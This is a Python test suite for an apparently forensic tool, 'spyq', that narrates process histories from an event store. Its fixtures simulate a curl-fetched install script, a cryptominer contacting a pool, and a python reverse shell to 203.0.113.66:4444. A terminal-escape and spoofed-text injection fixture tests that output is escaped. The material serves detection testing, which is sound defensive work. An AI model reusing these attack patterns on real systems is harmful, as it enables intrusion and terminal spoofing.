# SPDX-License-Identifier: GPL-3.0-or-later
"""The finished answers: why, impact, story."""
import json
import unittest

from support import Terminal, spyq
from test_verbs import EDGES, TRACES, changed_store


def rows(store, *arguments):
    result = spyq("--json", *arguments, on=store)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def told(store, *arguments):
    return [row["sentence"] for row in rows(store, *arguments)]


class Stories(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.store = changed_store("stories.db", TRACES + EDGES)

    def assert_in_order(self, sentences, *wanted):
        """Each of these is the beginning of a sentence, and they come in this order."""
        at = -1
        for start in wanted:
            later = [i for i, sentence in enumerate(sentences) if i > at and sentence.startswith(start)]
            self.assertTrue(later, f"no {start!r} after {sentences[max(at, 0)]!r} in\n" + "\n".join(sentences))
            at = later[0]

    def test_why_back_to_the_login(self):
        self.assert_in_order(
            told(self.store, "why", "9"),
            "It is part of trace 2: ssh login of ana from 198.51.100.7",
            "sshd (pid 812, root) took a connection from 198.51.100.7 port 50022 on port 22",
            "sshd (pid 812, root) ran -bash (pid 815, as ana)",
            'bash (pid 815, ana) ran "curl -s https://example.org/install.sh" (pid 900)',
            "curl (pid 900, ana) connected to example.org (93.184.216.34 port 443)",
            'dash (pid 901, ana) ran "/tmp/miner --pool 203.0.113.9:3333 --quiet" (pid 910)',
            "miner (pid 910, ana) ran /tmp/miner, which curl (pid 900, ana) had written",
            "miner (pid 910, ana) connected to 203.0.113.9 port 3333",
            "From here to 2026-11-22T03:11:00Z something of class network may be missing: 12 records",
            "The search went no further than init (pid 1, root)")

    def test_proofs(self):
        row = next(row for row in rows(self.store, "why", "9") if row["kind"] == "file")
        self.assertEqual((row["proofs"], row["count"]), (["edges:21", "files:1"], 1))

    def test_impact_of_a_login(self):
        sentences = told(self.store, "impact", "trace:2")
        self.assert_in_order(
            sentences,
            "sshd (pid 812, root) ran -bash (pid 815, as ana)",
            "curl (pid 900, ana) connected to nginx (pid 501, www-data) at 127.0.0.1 port 8080")
        self.assertFalse([s for s in sentences if "pid 950" in s or "listened" in s])

    def test_who_serves_a_listener(self):
        self.assert_in_order(
            told(self.store, "why", "3"),
            'nginx (pid 500, root), "nginx: master process /usr/sbin/nginx", was running when',
            "nginx (pid 500, root) listened on tcp 0.0.0.0 port 8080",
            "nginx (pid 500, root) had nginx (pid 501) serve tcp 0.0.0.0 port 8080: 1 connection")

    def test_who_is_left(self):
        self.assert_in_order(told(self.store, "impact", "6"), "miner (pid 910, ana) was killed by signal 9",
                             "Still running: bash (pid 815, ana)")

    def test_flags(self):
        name = changed_store("flagged.db", """
            INSERT INTO flags (id, at, rule, severity, title, process_id, suppressed_by) VALUES
            (1, 1795317131000000000, 'miner', 'high', 'talks to a pool', 9, NULL),
            (2, 1795317131000000000, 'other', 'low', 'is odd', 9, 3);""")
        self.assert_in_order(
            told(name, "why", "9"),
            'miner (pid 910, ana) was flagged by the rule miner, severity high: "talks to a pool"',
            "miner (pid 910, ana) was flagged by the rule other, severity low, which is suppressed")
        self.assert_in_order(told(name, "why", "flag:1"), "miner (pid 910, ana) was flagged by")

    def test_json_that_is_none(self):
        """A store may hold anything: a story does without what it cannot read."""
        name = changed_store("badjson.db", """
            UPDATE execs SET argv = '[not json' WHERE id = 9;
            INSERT INTO privileges (id, process_id, at, kind, old, new, host_id) VALUES
            (1, 9, 1795317132000000000, 'setuid', '{"uid"', '{', 1),
            (2, 9, 1795317133000000000, 'mount', NULL, '[]', 1);
            INSERT INTO dns_queries (id, process_id, at, name, answers, host_id) VALUES
            (1, 9, 1795317134000000000, 'x.example', '[', 1);""")
        sentences = told(name, "why", "9")
        self.assert_in_order(sentences, 'dash (pid 901, ana) ran "[not json" (pid 910)',
                             "miner (pid 910, ana) asked for the address of x.example")

    def test_a_login_tells_where_it_came_from(self):
        self.assert_in_order(told(self.store, "impact", "trace:2"),
                             "sshd (pid 812, root) took a connection from 198.51.100.7 port 50022")

    def test_bounds(self):
        until = told(self.store, "impact", "6", "--until", "2026-11-22 03:20")
        self.assertFalse([s for s in until if "10.0.0.5" in s])
        self.assertIn("sentences are left out, of what lies beyond --since and --until", until[-1])
        self.assertTrue([s for s in until if "203.0.113.9" in s])
        since = told(self.store, "why", "9", "--since", "2026-11-22 03:12:03")
        self.assertFalse([s for s in since if "198.51.100.7 port" in s])
        self.assertTrue([s for s in since if "the mode 755" in s])
        near = told(self.store, "why", "9", "--depth", "1")
        self.assertTrue([s for s in near if s.endswith("as --depth says")])
        self.assertFalse([s for s in near if "pid 812" in s])
        forks = told(self.store, "why", "9", "--kinds", "fork")
        self.assertFalse([s for s in forks if "curl" in s])

    def test_formats(self):
        """The same rows in every format; a terminal gets sentences."""
        count = len(rows(self.store, "story", "7"))
        lines = spyq("--jsonl", "story", "7", on=self.store).stdout.splitlines()
        self.assertEqual(len(lines), count)
        csv = spyq("--csv", "story", "7", on=self.store).stdout.decode()
        self.assertTrue(csv.startswith("at,process_id,kind,sentence,proofs,count,last_at\n"))
        for table in ("edges", "execs", "connections", "files", "losses", "traces"):
            self.assertIn(f'{table}:', csv)

    def test_every_proof_is_a_row(self):
        proofs = {proof for target in ("9", "7", "3") for row in rows(self.store, "story", target)
                  for proof in row["proofs"]}
        self.assertGreater(len(proofs), 20)
        for proof in proofs:
            table, _, number = proof.partition(":")
            found = spyq("--csv", f"SELECT count(*) FROM {table} WHERE id = {number}", on=self.store)
            self.assertEqual(found.stdout, b"count(*)\n1\n", proof)

    def test_wrong_use(self):
        for arguments, code in ((["why"], 2), (["why", "9", "7"], 2), (["story", "nonsense"], 2),
                                (["impact", "12345"], 1), (["why", "9", "--rows", "3"], 2)):
            result = spyq(*arguments, on=self.store)
            self.assertEqual((result.returncode, result.stdout), (code, b""), arguments)
            self.assertTrue(result.stderr.startswith(b"spyq: "))


# What a shell of ana did, all of it after what the fixture has: 20 of each, one reverse shell.
START = 1795320000000000000


def busy(process, at, count):
    """The process runs as many programs, each of which looks in two places first and connects."""
    return "".join(f"""
        INSERT INTO processes (id, host_id, pid, ppid, parent_id, started_at, ended_at, exit_code, origin,
            comm, exe, cmdline, user, uid, euid) VALUES ({i}, 1, {i}, 815, {process}, {at + i}, {at + i + 9},
            0, 'event', 'scan', '/usr/bin/scan', 'scan {i}', 'ana', 1000, 1000);
        INSERT INTO execs (id, process_id, at, filename, exe, argv, error, uid, euid) VALUES
            ({i}, {i}, {at + i + 1}, '/usr/local/bin/scan', NULL, '["scan", "{i}"]', 'ENOENT', 1000, 1000),
            ({1000 + i}, {i}, {at + i + 2}, '/usr/bin/scan', '/usr/bin/scan', '["scan", "{i}"]', NULL, 1000,
             1000);
        INSERT INTO edges (id, host_id, at, last_at, count, kind, src, dst) VALUES
            ({i}, 1, {at + i}, {at + i}, 1, 'fork', {process}, {i});
        INSERT INTO connections (id, host_id, process_id, protocol, direction, remote_address, remote_port,
            started_at, ended_at, state, origin) VALUES ({i}, 1, {i}, 'tcp', 'out', '192.0.2.9', 22,
            {at + i + 3}, {at + i + 4}, 'refused', 'event');
    """ for i in range(100, 100 + count))


REVERSE = f"""
    INSERT INTO processes (id, host_id, pid, parent_id, started_at, origin, comm, exe, cmdline, user, uid)
    VALUES (50, 1, 1050, 6, {START}, 'event', 'python3', '/usr/bin/python3.11', 'python3 -c x', 'ana', 1000),
        (51, 1, 1051, 50, {START + 10}, 'event', 'sh', '/usr/bin/dash', '/bin/sh -i', 'ana', 1000),
        (52, 1, 1052, 51, {START + 20}, 'event', 'id', '/usr/bin/id', 'id', 'ana', 1000),
        (53, 1, 1053, 51, {START + 30}, 'event', 'bash', '/usr/bin/bash', 'bash', 'ana', 1000);
    INSERT INTO connections (id, host_id, process_id, protocol, direction, remote_address, remote_port,
        started_at, state, origin, inode) VALUES
        (50, 1, 50, 'tcp', 'out', '203.0.113.66', 4444, {START + 5}, 'open', 'event', 7777);
    INSERT INTO holders (id, connection_id, process_id, at, how) VALUES
        (1, 50, 51, {START + 11}, 'stdio'), (2, 50, 52, {START + 21}, 'stdio'), (3, 50, 53, {START + 31}, 'stdio');
    INSERT INTO execs (id, process_id, at, filename, exe, argv, uid, stdin, stdout, stderr) VALUES
        (50, 50, {START + 1}, '/usr/bin/python3', '/usr/bin/python3.11', '["python3","-c","x"]', 1000,
         'tty:/dev/pts/0', 'tty:/dev/pts/0', 'tty:/dev/pts/0'),
        (51, 51, {START + 11}, '/bin/sh', '/usr/bin/dash', '["/bin/sh","-i"]', 1000, 'socket:[7777]',
         'socket:[7777]', 'socket:[7777]'),
        (52, 52, {START + 21}, '/usr/bin/id', '/usr/bin/id', '["id"]', 1000, 'socket:[7777]',
         'socket:[7777]', 'socket:[7777]'),
        (53, 53, {START + 31}, '/bin/bash', '/usr/bin/bash', '["bash"]', 1000, 'socket:[7777]',
         'socket:[7777]', 'socket:[7777]');
"""


class Folding(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.store = changed_store("folding.db", busy(6, START, 40) + REVERSE)

    def test_what_repeats_is_told_once(self):
        told_rows = rows(self.store, "impact", "6")
        runs = [row for row in told_rows if 'ran "scan ' in row["sentence"]]
        self.assertEqual([row["count"] for row in runs], [40])
        self.assertIn("; and 39 more like it", runs[0]["sentence"])
        refused = [row for row in told_rows if "192.0.2.9" in row["sentence"]]
        self.assertEqual([row["count"] for row in refused], [40])
        self.assertIn("sentences are folded into others", told_rows[-1]["sentence"])

    def test_all_of_them(self):
        everything = rows(self.store, "impact", "6", "--all")
        self.assertEqual(len([row for row in everything if 'ran "scan ' in row["sentence"]]), 40)
        self.assertEqual(len([row for row in everything if row["sentence"].endswith("scan: ENOENT")]), 40)
        self.assertEqual({row["count"] for row in everything}, {1})
        folded = rows(self.store, "impact", "6")
        left = sum(row["count"] for row in folded if row["kind"] not in ("note", "exec failed"))
        whole = len([row for row in everything if row["kind"] != "exec failed"])
        self.assertEqual(left, whole)

    def test_what_matters_is_not_folded(self):
        """That its children have the same streams is no other shell."""
        sentences = told(self.store, "impact", "6")
        shell = [s for s in sentences if "reverse shell" in s]
        self.assertEqual(shell, ["sh (pid 1051, ana) ran with its input, output and errors on the "
                                 "connection to 203.0.113.66 port 4444: a reverse shell"])

    def test_a_shell_on_a_socket(self):
        sentences = told(self.store, "why", "52")
        Stories.assert_in_order(
            self, sentences, 'bash (pid 815, ana) ran "python3 -c x" (pid 1050)',
            "python3 (pid 1050, ana) connected to 203.0.113.66 port 4444",
            'python3 (pid 1050, ana) ran "/bin/sh -i" (pid 1051)',
            "sh (pid 1051, ana) ran with its input, output and errors", "sh (pid 1051, ana) ran id")

    def test_the_same_twice(self):
        self.assertEqual(rows(self.store, "story", "6"), rows(self.store, "story", "6"))


HOSTILE = f"""
    INSERT INTO processes (id, host_id, pid, parent_id, started_at, origin, comm, exe, cmdline, user) VALUES
    (60, 1, 1060, 6, {START}, 'event', char(27) || ']0;x' || char(7), '/tmp/' || char(27) || '[2J', 'x',
     char(0x202e) || 'ana');
    INSERT INTO execs (id, process_id, at, filename, exe, argv) VALUES (60, 60, {START + 1},
     '/tmp/' || char(27) || '[2J', '/tmp/' || char(27) || '[2J',
     json_array('x" (pid 1, root) [edge 5]', 'line' || char(10) || 'break', char(0x9b) || '31m',
     '{'w' * 300}'));
    INSERT INTO connections (id, host_id, process_id, protocol, direction, remote_address, remote_port,
     remote_name, started_at, state, origin) VALUES (60, 1, 60, 'tcp', 'out', '192.0.2.9', 22,
     'evil' || char(13) || char(0x200b) || '.example', {START + 2}, 'open', 'event');
    INSERT INTO files (id, host_id, process_id, at, op, path) VALUES
     (60, 1, 60, {START + 3}, 'write', '/tmp/' || CAST(x'ff80c3' AS TEXT) || '/日本語');
"""


class Person(unittest.TestCase):
    """What a person sees in a terminal."""

    def test_hostile_text(self):
        store = changed_store("hostile-story.db", HOSTILE)
        for columns in (80, 40):
            with Terminal("why", "60", on=store, columns=columns, lines=200) as terminal:
                self.assertEqual(terminal.end(), 0)
                screen = terminal.screen()  # complains about what does not belong there
            self.assertLessEqual(max(map(len, screen.splitlines())), columns)
            flat = " ".join(screen.split())
            for shown in ("\\x1b", "\\u202e", "\\xff", "\\r", "\\u200b"):
                self.assertIn(shown, flat.replace(" ", ""))
        # what looks like a proof is inside quotes, and these are escaped there
        self.assertIn('x\\" (pid 1, root) [edge 5]', "\n".join(told(store, "why", "60")))

    def test_80_columns(self):
        store = changed_store("person.db", TRACES + EDGES)
        with Terminal("why", "9", on=store, lines=100) as terminal:
            self.assertEqual(terminal.end(), 0)
            screen = terminal.screen()
        self.assertIn("2026-11-22\n02:01:00  sshd (pid 400, root)", screen)
        self.assertIn("[edge 21,", screen)
        for line in screen.splitlines():
            self.assertLessEqual(len(line), 80)

    def test_at_the_prompt(self):
        with Terminal() as terminal:
            terminal.wait("spyq> ")
            screen = terminal.ask(".why 9 --depth 1")
            self.assertIn("as --depth says", " ".join(screen.split()))
